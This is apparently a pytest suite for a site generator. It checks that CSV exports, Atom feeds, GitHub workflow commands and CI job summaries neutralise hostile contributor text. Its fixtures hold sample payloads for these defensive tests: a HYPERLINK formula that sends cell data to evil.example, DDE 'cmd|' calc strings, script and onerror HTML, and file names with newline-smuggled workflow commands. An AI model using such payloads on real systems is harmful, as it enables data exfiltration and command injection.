"""Output that cannot be turned against its readers: CSV cells, Atom feeds, GitHub workflow
commands and the job summary hold contributors' text, so each is written safely for its reader."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import feedparser
import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator.catalog.catalog import Catalog
from generator.catalog.load import load_catalog
from generator.config import SiteConfig, load_config
from generator.diagnostics import Diagnostic, github_escape
from generator.intake.ci_summary import Changes, code_span, summary
from generator.opendata.export import write_exports
from generator.opendata.export_csv import safe_cell, to_csv
from generator.opendata.export_models import CaseRecord
from generator.opendata.feeds import atom_feed, xml_text
from schemas.models import Source
from tests.support import FIXTURES, ROOT, run_opit

MINIMAL = FIXTURES / "minimal" / "content"
ATOM = "{http://www.w3.org/2005/Atom}"
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.fixture(scope="module")
def config() -> SiteConfig:
    return load_config(ROOT / "site_config.yml")


def copy_minimal(tmp_path: Path) -> Path:
    content = tmp_path / "content"
    shutil.copytree(MINIMAL, content)
    return content


# ---------------------------------------------------------------------------------------------
# 1. CSV cells a spreadsheet would run as formulas.
# ---------------------------------------------------------------------------------------------


def test_a_csv_cell_that_starts_with_an_equals_sign_gets_a_leading_quote() -> None:
    assert safe_cell('=HYPERLINK("https://evil.example","x")') == (
        '\'=HYPERLINK("https://evil.example","x")')


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_a_csv_cell_that_starts_with_any_formula_character_gets_a_leading_quote(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["plain", "a=b", "1-2", "", " =not at the start", "'quoted"])
def test_a_csv_cell_that_does_not_start_like_a_formula_is_left_as_written(text: str) -> None:
    assert safe_cell(text) == text


def test_a_number_in_a_csv_is_left_as_it_is_even_when_negative() -> None:
    assert (safe_cell(-5), safe_cell(2024), safe_cell(-1.5)) == ("-5", "2024", "-1.5")


def test_every_csv_cell_goes_through_the_guard_including_lists_and_sub_fields() -> None:
    record = CaseRecord.model_construct(**{
        **{name: None for name in CaseRecord.model_fields},
        "id": "x", "title": "=1+1", "keywords": ["@SUM(A1)", "b"],
        "sources": [Source(title="-2")], "year": 2024, "body": "+story",
    })
    rows = list(csv.DictReader(io.StringIO(to_csv(CaseRecord, [record]).decode("utf-8"))))
    assert (rows[0]["title"], rows[0]["keywords"], rows[0]["sources_title"], rows[0]["year"]) == (
        "'=1+1", "'@SUM(A1); b", "'-2", "2024")
    assert rows[0]["body"] == "'+story"


HOSTILE_CASE = """\
---
title: '=HYPERLINK("https://evil.example/?q="&A1, "Click me")'
summary: '-2+3 and a summary long enough to pass the minimum length of a summary.'
language: en
themes: [digital-services]
organisations: [example-city]
published: 2024-05-01
sources:
  - title: '@SUM(1+1)*cmd|'' /C calc''!A0'
keywords: ['+1 keyword', 'harmless']
year: 2024
level_of_government: local
stage: evaluating
lessons:
  - '=cmd|'' /C calc''!A0 is what a spreadsheet would run.'
---

A story.
"""


def test_opit_export_quotes_every_formula_cell_of_every_csv_and_the_json_keeps_it(
        tmp_path: Path) -> None:
    content = copy_minimal(tmp_path)
    (content / "cases" / "formula-case.md").write_text(HOSTILE_CASE, encoding="utf-8")
    out = tmp_path / "site"
    result = run_opit("--content", str(content), "export", "--out", str(out))
    assert result.returncode == 0, result.stderr
    files = sorted((out / "api/v1").glob("*.csv"))
    assert {p.name for p in files} >= {"cases.csv", "workshops.csv", "findings.csv", "events.csv"}
    for path in files:
        for row in csv.reader(io.StringIO(path.read_text("utf-8"), newline="")):
            assert not [c for c in row if c.startswith(tuple(FORMULA_STARTS))], path
    cases = {row["id"]: row for row in csv.DictReader(
        io.StringIO((out / "api/v1/cases.csv").read_text("utf-8"), newline=""))}
    hostile = cases["formula-case"]
    assert hostile["title"] == '\'=HYPERLINK("https://evil.example/?q="&A1, "Click me")'
    assert hostile["summary"].startswith("'-2+3 and")
    assert hostile["keywords"] == "'+1 keyword; harmless"
    assert hostile["sources_title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert hostile["year"] == "2024"
    as_json = json.loads((out / "api/v1/cases.json").read_text("utf-8"))
    record = next(r for r in as_json["items"] if r["id"] == "formula-case")
    assert record["title"] == '=HYPERLINK("https://evil.example/?q="&A1, "Click me")'
    assert record["keywords"] == ["+1 keyword", "harmless"]


# ---------------------------------------------------------------------------------------------
# 2. Atom feeds are well-formed XML whatever the strings hold.
# ---------------------------------------------------------------------------------------------

C1 = "".join(map(chr, range(0x7F, 0xA0)))
HOSTILE_TEXT = {
    "nul": ("a\x00b", "ab"),
    "soh": ("a\x01b", "ab"),
    "vertical tab": ("a\x0bb", "ab"),
    "escape": ("a\x1b[31mb", "a[31mb"),
    "c1 controls (legal but read as Windows-1252)": (f"a{C1}b", "ab"),
    "noncharacters": ("a\ufffe\uffffb", "ab"),
    "lone surrogate": ("a\ud800b\udfffc", "abc"),
    "cdata end": ("a]]>b", "a]]>b"),
    "script": ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    "ampersand": ("Fish & chips &amp; &#0; &bogus;", "Fish & chips &amp; &#0; &bogus;"),
}


def test_xml_text_removes_exactly_the_characters_xml_1_0_forbids_or_discourages() -> None:
    allowed = "\t\n\r x~\xa0\ud7ff\ue000\ufffd\U0001f600\U0010ffff"
    forbidden = "".join(map(chr, [*range(0x09), 0x0B, 0x0C, *range(0x0E, 0x20)])) + C1 + (
        "\ud800\udbff\udc00\udfff\ufffe\uffff")
    assert xml_text(allowed + forbidden + allowed) == allowed + allowed


def hostile_catalog(title: str, summary: str | None = None) -> Catalog:
    """The minimal fixture with every entry's title and summary replaced (not validated)."""
    loaded = load_catalog(MINIMAL)
    update = {"title": f"T {title}", "summary": f"S {title if summary is None else summary}"}
    entries = {key: dataclasses.replace(entry, data=entry.data.model_copy(update=update))
               for key, entry in loaded.entries.items()}
    return dataclasses.replace(loaded, entries=entries)


def parse_feed(data: bytes) -> tuple[list[str], list[str]]:
    """Titles and summaries of a feed's entries, as xml.etree and as feedparser read them."""
    root = ET.fromstring(data)
    titles = [e.findtext(f"{ATOM}title") or "" for e in root.iter(f"{ATOM}entry")]
    summaries = [e.findtext(f"{ATOM}summary") or "" for e in root.iter(f"{ATOM}entry")]
    parsed = feedparser.parse(data)
    assert not parsed.bozo, parsed.get("bozo_exception")
    assert [e.title for e in parsed.entries] == titles
    assert [e.summary for e in parsed.entries] == summaries
    return titles, summaries


@pytest.mark.parametrize("name", HOSTILE_TEXT)
def test_a_feed_is_well_formed_whatever_its_titles_and_summaries_hold(
        name: str, config: SiteConfig) -> None:
    text, kept = HOSTILE_TEXT[name]
    titles, summaries = parse_feed(atom_feed(hostile_catalog(text), config))
    assert titles and set(titles) == {f"T {kept}"}
    assert set(summaries) == {f"S {kept}"}


def test_every_feed_the_export_writes_parses_with_hostile_titles_and_summaries(
        config: SiteConfig, tmp_path: Path) -> None:
    # The export's own records refuse what validation refuses (controls, lone surrogates, HTML in
    # a summary); atom_feed itself is tested with those above.
    refused = {"nul", "soh", "vertical tab", "escape", "lone surrogate",
               "c1 controls (legal but read as Windows-1252)"}
    title = [k for k in HOSTILE_TEXT if k not in refused]
    summary = [k for k in title if k != "script"]
    catalog = hostile_catalog("".join(HOSTILE_TEXT[k][0] for k in title),
                              "".join(HOSTILE_TEXT[k][0] for k in summary))
    written = write_exports(catalog, config, tmp_path)
    feeds = [p for p in written if p.name == "feed.xml"]
    assert len(feeds) == 4
    for path in feeds:
        titles, summaries = parse_feed(path.read_bytes())
        assert titles and set(titles) == {"T " + "".join(HOSTILE_TEXT[k][1] for k in title)}
        assert set(summaries) == {"S " + "".join(HOSTILE_TEXT[k][1] for k in summary)}


# ---------------------------------------------------------------------------------------------
# 3. `opit validate --format github`: one workflow command per problem, never more.
# ---------------------------------------------------------------------------------------------


def test_a_workflow_command_message_escapes_percent_and_line_breaks() -> None:
    assert github_escape("100%\r\n::error::x, a:b") == "100%25%0D%0A::error::x, a:b"


def test_a_workflow_command_property_also_escapes_colons_and_commas() -> None:
    assert github_escape("a%b\r\n::c,d", property_value=True) == "a%25b%0D%0A%3A%3Ac%2Cd"


def test_a_diagnostic_whose_path_holds_a_newline_is_one_workflow_command() -> None:
    path = "content/cases/x\n::error file=README.md,line=1::pwned,title=y.md"
    line = Diagnostic(path, 2, 3, "error", "bad-file-name", "oops\nsecond").github()
    assert "\n" not in line
    assert line == ("::error file=content/cases/x%0A%3A%3Aerror file=README.md%2Cline=1%3A%3A"
                    "pwned%2Ctitle=y.md,line=2,col=3,title=bad-file-name::oops%0Asecond")


INJECTED = "::error file=README.md,line=1::injected"
NASTY_NAMES = [f"evil\n{INJECTED} 100%.md", f"cr\r{INJECTED}.md", "comma,colon:%0A.md"]


def test_opit_validate_for_github_never_lets_a_file_name_inject_a_command(
        tmp_path: Path) -> None:
    content = copy_minimal(tmp_path)
    for name in NASTY_NAMES:
        (content / "cases" / name).write_text("---\ntitle: x\n---\n", encoding="utf-8")
    result = run_opit("--content", str(content), "validate", "--format", "github")
    assert result.returncode == 1, result.stderr
    lines = re.split(r"\r\n|\r|\n", result.stdout.rstrip("\n"))  # as the runner splits them
    assert len(lines) == len(NASTY_NAMES)
    command = re.compile(rf"::error file={re.escape(str(content))}/cases/[^,:\r\n]+,line=1,col=1,"
                         r"title=bad-file-name::[^\r\n]+")
    assert all(command.fullmatch(line) for line in lines), lines
    assert not [line for line in lines if line.startswith(INJECTED)]
    files = {re.match(r"::\w+ file=([^,]*),", line)[1] for line in lines}
    assert f"{content}/cases/evil%0A%3A%3Aerror file=README.md%2Cline=1%3A%3Ainjected 100%25.md" \
        in files
    assert any(f.endswith("/cases/comma%2Ccolon%3A%250A.md") for f in files)


# ---------------------------------------------------------------------------------------------
# 4. The job summary: code spans and table cells whatever they hold.
# ---------------------------------------------------------------------------------------------


def read_code_span(markdown: str) -> tuple[str, str]:
    """CommonMark's reading of a code span at the start: (its content, the text after it)."""
    opening = re.match("`+", markdown)
    assert opening, markdown
    fence = opening[0]
    closing = re.compile(f"(?<!`){fence}(?!`)")
    end = closing.search(markdown, len(fence))
    assert end, markdown
    inner = markdown[len(fence):end.start()].replace("\n", " ")
    if inner.startswith(" ") and inner.endswith(" ") and inner.strip(" "):
        inner = inner[1:-1]
    return inner, markdown[end.end():]


@pytest.mark.parametrize("text, expected", [
    ("plain", "`plain`"),
    ("a `b` c", "``a `b` c``"),
    ("a ``b`` ```c", "````a ``b`` ```c````"),
    ("`starts", "`` `starts ``"),
    ("ends`", "`` ends` ``"),
    (" both ", "`  both  `"),
    ("   ", "`   `"),
])
def test_a_code_span_is_fenced_longer_than_any_backtick_run_and_padded_when_needed(
        text: str, expected: str) -> None:
    assert code_span(text) == expected


@given(st.text(alphabet=st.sampled_from("`a |\\ "), min_size=1))
def test_a_code_span_reads_back_as_exactly_the_value_whatever_backticks_it_holds(
        text: str) -> None:
    assert read_code_span(code_span(text)) == (text, "")


def test_a_code_span_stays_on_one_line_whatever_line_breaks_the_value_holds() -> None:
    span = code_span("a\nb\r\nc\rd\n- item\n# heading")
    assert (span, read_code_span(span)) == ("`a b c d - item # heading`",
                                            ("a b c d - item # heading", ""))


def test_a_summary_table_cell_escapes_pipes_and_line_breaks() -> None:
    changes = Changes(added=["content/cases/a|b`c\n| x | y |.md"], changed=[])
    rows = [line for line in summary(changes, [], None).splitlines()
            if line.startswith("| Entries added")]
    assert rows == ["| Entries added | 1 | ``content/cases/a\\|b`c \\| x \\| y \\|.md`` |"]
    assert len(re.findall(r"(?<!\\)\|", rows[0])) == 4


def test_the_job_summary_lists_a_hostile_file_name_as_one_code_span(tmp_path: Path) -> None:
    content = copy_minimal(tmp_path)
    name = "x` **bold** ``\n# Heading\n- <img src=x onerror=alert(1)>.md"
    (content / "cases" / name).write_text("---\ntitle: x\n---\n", encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-m", "generator.intake.ci_summary", "--content", str(content)],
        cwd=ROOT, capture_output=True, text=True, timeout=600, check=False)
    assert result.returncode == 0, result.stderr
    fixes = result.stdout.split("### What to fix\n\n", 1)[1].splitlines()
    assert len(fixes) == 1 and fixes[0].startswith(f"- ```{content}"), fixes
    shown, after = read_code_span(fixes[0].removeprefix("- "))
    assert after == ""
    one_line = name.replace("\n", " ")
    assert shown.startswith(f"{content}/cases/{one_line}:1:1: error: "), shown
